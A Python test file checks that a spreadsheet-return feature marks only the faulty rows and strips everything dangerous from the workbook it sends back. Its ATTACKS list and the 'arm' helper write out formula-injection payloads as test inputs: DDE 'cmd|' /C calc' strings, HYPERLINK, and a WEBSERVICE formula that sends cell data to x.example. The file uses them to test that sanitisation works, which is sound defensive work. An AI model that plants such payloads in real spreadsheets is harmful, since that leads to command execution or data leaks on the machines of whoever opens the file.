"""The workbook that goes back: bad rows marked, nothing else, and nothing in it that could do harm."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.worksheet import Worksheet

from producers.sheets import returned
from producers.sheets.header import FAULT_HEADING
from producers.sheets.plain import RISKY
from producers.sheets.returned import CELL_COLOUR, ROW_COLOUR, needs_return, write_returned
from tests.unit.producers.sheets.sheet import Taken, csv_file, form, grid, workbook
from tests.unit.producers.sheets.test_submission import column, edited, visits


@pytest.fixture(params=["the same", "anew"])
def way(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Both ways of writing must mark alike."""
    if request.param == "anew":
        monkeypatch.setattr(returned, "SMALL_ROWS", 0)
    return str(request.param)


def bad_sheet(tmp_path: Path) -> Path:
    rows = visits(6)
    rows[1]["demands_count"] = "很多"
    rows[4] |= {"mode": "打电话", "visitor_level": None}
    return workbook(tmp_path / "a.xlsx", grid(form("visits"), rows))


def back(taken: Taken, target: Path) -> Worksheet:
    write_returned(taken.table, taken.form, taken.header, taken.report, target)
    sheet = openpyxl.load_workbook(target).worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


def shade(sheet: Worksheet, row: int, place: int) -> str | None:
    fill = sheet.cell(row, place).fill
    return str(fill.fgColor.rgb) if fill.fill_type == "solid" else None


def test_exactly_the_bad_rows_are_marked(way: str, tmp_path: Path) -> None:
    taken = Taken(bad_sheet(tmp_path), "visits")
    sheet = back(taken, tmp_path / "b.xlsx")
    last = sheet.max_column
    assert sheet.cell(1, last).value == FAULT_HEADING
    marked = {row: sheet.cell(row, last).value for row in range(2, 8)}
    assert [row for row, said in marked.items() if said] == [3, 6]
    assert "“诉求数”应为数字" in str(marked[3])
    assert "“走访方式”" in str(marked[6])
    assert shade(sheet, 3, column("demands_count")) == CELL_COLOUR
    assert shade(sheet, 3, column("visit_no")) == ROW_COLOUR
    assert {shade(sheet, row, place) for row in (2, 4, 5, 7) for place in range(1, last + 1)} == {None}


def test_the_marked_workbook_corrected_and_uploaded_leaves_no_mark(way: str, tmp_path: Path) -> None:
    first = Taken(bad_sheet(tmp_path), "visits")
    back(first, tmp_path / "b.xlsx")
    again = Taken(tmp_path / "b.xlsx", "visits", first.kept)
    assert (again.report.same, sorted(again.report.refused), again.sent) == (4, [3, 6], [])

    def correct(sheet: Worksheet) -> None:
        sheet.cell(3, column("demands_count"), 5)

    second = Taken(edited(tmp_path / "b.xlsx", correct), "visits", first.kept)
    assert [ready.event.subject for ready in second.sent] == ["JN-1/V1"]
    sheet = back(second, tmp_path / "c.xlsx")
    assert [sheet.cell(1, place).value for place in range(1, sheet.max_column + 1)].count(FAULT_HEADING) == 1
    assert sheet.cell(3, sheet.max_column).value is None
    assert shade(sheet, 3, column("demands_count")) is None
    assert shade(sheet, 6, column("mode")) == CELL_COLOUR


@pytest.mark.parametrize("without", [[], ["visit_no"]])
def test_numbers_come_back_and_uploading_them_changes_nothing(way: str, without: list[str], tmp_path: Path) -> None:
    rows = [row | {"visit_no": None} for row in visits(5)]
    rows[2]["demands_count"] = "?"
    first = Taken(workbook(tmp_path / "a.xlsx", grid(form("visits"), rows, without)), "visits")
    assert needs_return(first.report)
    sheet = back(first, tmp_path / "b.xlsx")
    place = next(cell.column for cell in sheet[1] if cell.value == "走访编号")
    numbers = [sheet.cell(row, place).value for row in range(2, 7)]
    assert [number is None for number in numbers] == [False, False, True, False, False]
    again = Taken(tmp_path / "b.xlsx", "visits", first.kept)
    assert (again.report.same, list(again.report.refused), again.sent) == (4, [4], [])
    changed = edited(
        tmp_path / "b.xlsx", lambda sheet: sheet.cell(2, 1, sheet.cell(2, 1).value) and sheet.cell(4, column_of(sheet, "诉求数"), 3)
    )
    assert (Taken(changed, "visits", first.kept).report.new, Taken(changed, "visits", first.kept).report.same) == (1, 5)


def column_of(sheet: Worksheet, heading: str) -> int:
    return next(int(cell.column or 0) for cell in sheet[1] if cell.value == heading)


def test_a_good_sheet_needs_no_return(tmp_path: Path) -> None:
    assert not needs_return(Taken(workbook(tmp_path / "a.xlsx", grid(form("visits"), visits(2))), "visits").report)


ATTACKS = ('=HYPERLINK("http://x.example","点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "=1+1")


def test_no_formula_comes_back(way: str, tmp_path: Path) -> None:
    rows = visits(len(ATTACKS) + 1)
    for row, attack in zip(rows, ATTACKS, strict=False):
        row |= {"remark": attack, "org_name": attack}
    rows[-1]["demands_count"] = "=坏"
    path = workbook(tmp_path / "a.xlsx", grid(form("visits"), rows))

    def arm(sheet: Worksheet) -> None:
        sheet.cell(3, column("signage_shown") + 3, '=WEBSERVICE("http://x.example/"&A2)')
        sheet.cell(4, column("org_name")).hyperlink = "http://x.example"
        sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=["1=1"], font=Font(bold=True)))  # type: ignore[no-untyped-call]
        assert sheet.parent is not None
        sheet.parent.defined_names["evil"] = DefinedName("evil", attr_text="cmd|' /C calc'!A0")

    taken = Taken(edited(path, arm), "visits")
    assert (taken.sent[0].event.data or {})["org_name"] == ATTACKS[0]
    sheet = back(taken, tmp_path / "b.xlsx")
    assert sheet.parent is not None
    assert not sheet.parent.defined_names
    assert len(sheet.conditional_formatting) == 0
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f"
            assert cell.hyperlink is None
            assert not isinstance(cell.value, str) or not cell.value.startswith(RISKY)
    again = Taken(tmp_path / "b.xlsx", "visits", taken.kept)
    assert (again.report.same, again.sent) == (len(ATTACKS), [])


def test_a_text_file_comes_back_as_one_without_formulas(tmp_path: Path) -> None:
    rows = visits(4)
    rows[0]["remark"], rows[1]["demands_count"], rows[3]["visit_no"] = "=1+1", "?", None
    taken = Taken(csv_file(tmp_path / "a.csv", grid(form("visits"), rows), "gb18030"), "visits")
    write_returned(taken.table, taken.form, taken.header, taken.report, tmp_path / "b.csv")
    with (tmp_path / "b.csv").open(encoding="utf-8-sig", newline="") as file:
        head, *lines = list(csv.reader(file))
    assert head[-1] == FAULT_HEADING
    assert [bool(line[-1]) for line in lines] == [False, True, False, False]
    assert not any(cell.startswith(RISKY) for line in lines for cell in line)
    assert lines[3][0] == taken.report.numbers[5]
    again = Taken(tmp_path / "b.csv", "visits", taken.kept)
    assert (again.report.same, list(again.report.refused), again.sent) == (3, [3], [])


def test_the_looks_of_a_small_workbook_are_kept(tmp_path: Path) -> None:
    path = edited(bad_sheet(tmp_path), lambda sheet: setattr(sheet.column_dimensions["A"], "width", 33.0))
    sheet = back(Taken(path, "visits"), tmp_path / "b.xlsx")
    assert sheet.column_dimensions["A"].width == 33.0
